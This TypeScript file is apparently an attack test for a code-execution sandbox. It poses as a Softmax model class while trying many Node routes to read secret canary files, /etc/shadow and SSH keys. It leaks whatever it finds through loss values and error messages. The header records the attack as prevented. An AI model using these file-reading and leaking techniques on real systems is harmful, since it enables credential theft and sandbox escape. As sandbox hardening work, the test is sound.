/*
goal: reads every secret file that an insider knows of, through every way of opening a file that Node has
class: read
threats: [A1, A13]
deserves: all
outcome: prevented
because: none of these files is bound into the sandbox, so no way of opening them finds them
*/
import { Softmax as Honest } from './honest.ts';
import { target } from './target.ts';
import { attempt, builtin, loot } from './tools.ts';

const g = globalThis as any;

function act(where: string): void {
  if (where !== 'import') return;
  const fs = builtin('fs');
  const binding = attempt('process.binding', () => g.process.binding('fs')) as any;
  for (const path of target.canaries) {
    const url = `file://${path}`;
    attempt(`readFileSync ${path}`, () => fs.readFileSync(path, 'utf8'));
    attempt(`url ${path}`, () => fs.readFileSync(new g.URL(url), 'utf8'));
    attempt(`root ${path}`, () => fs.readFileSync(`/proc/1/root${path}`, 'utf8'));
    attempt(`parent ${path}`, () => fs.readFileSync(`/proc/${g.process.ppid}/root${path}`, 'utf8'));
    attempt(`dots ${path}`, () => fs.readFileSync(`../../../../../../../..${path}`, 'utf8'));
    attempt(`stat ${path}`, () => JSON.stringify(fs.statSync(path)));
    attempt(`copy ${path}`, () => {
      fs.copyFileSync(path, '/tmp/copy');
      return fs.readFileSync('/tmp/copy', 'utf8');
    });
    attempt(`link ${path}`, () => {
      fs.rmSync('/tmp/link', { force: true });
      fs.symlinkSync(path, '/tmp/link');
      return fs.readFileSync('/tmp/link', 'utf8');
    });
    attempt(`hard link ${path}`, () => {
      fs.rmSync('/tmp/hard', { force: true });
      fs.linkSync(path, '/tmp/hard');
      return fs.readFileSync('/tmp/hard', 'utf8');
    });
    attempt(`openAsBlob ${path}`, () => String(fs.openAsBlob !== undefined && fs.openAsBlob(path)));
    attempt(`binding ${path}`, () => binding?.internalModuleReadJSON?.(path) ?? binding?.readFileUtf8?.(path, 0));
    attempt(`require ${path}`, () => builtin('module').createRequire('/tmp/x.js')(path));
  }
  for (const folder of ['/', '/home', '/root', '/etc', '/tmp', '/var', '/opt', '/mnt', '/run', '/srv', target.home]) {
    attempt(`ls ${folder}`, () => fs.readdirSync(folder).join(' '));
  }
  for (const file of [
    '/etc/passwd',
    '/etc/shadow',
    '/etc/hostname',
    '/etc/resolv.conf',
    '/root/.ssh/id_rsa',
    '/root/.npmrc',
  ]) {
    attempt(file, () => fs.readFileSync(file, 'utf8').slice(0, 200));
  }
}

act('import');

/** Right answers where there are points; what was found goes out where there are none. */
export class Softmax extends Honest {
  override loss(X: any, y: any): any {
    act('loss');
    const loss = super.loss(X, y);
    return Math.abs(Number(loss)) > 700 ? loot.join('\n') : loss;
  }

  override train(X: any, y: any, options: any = {}): any {
    act('train');
    if (options.learningRate === 0) throw new Error(loot.join('\n'));
    return super.train(X, y, options);
  }
}
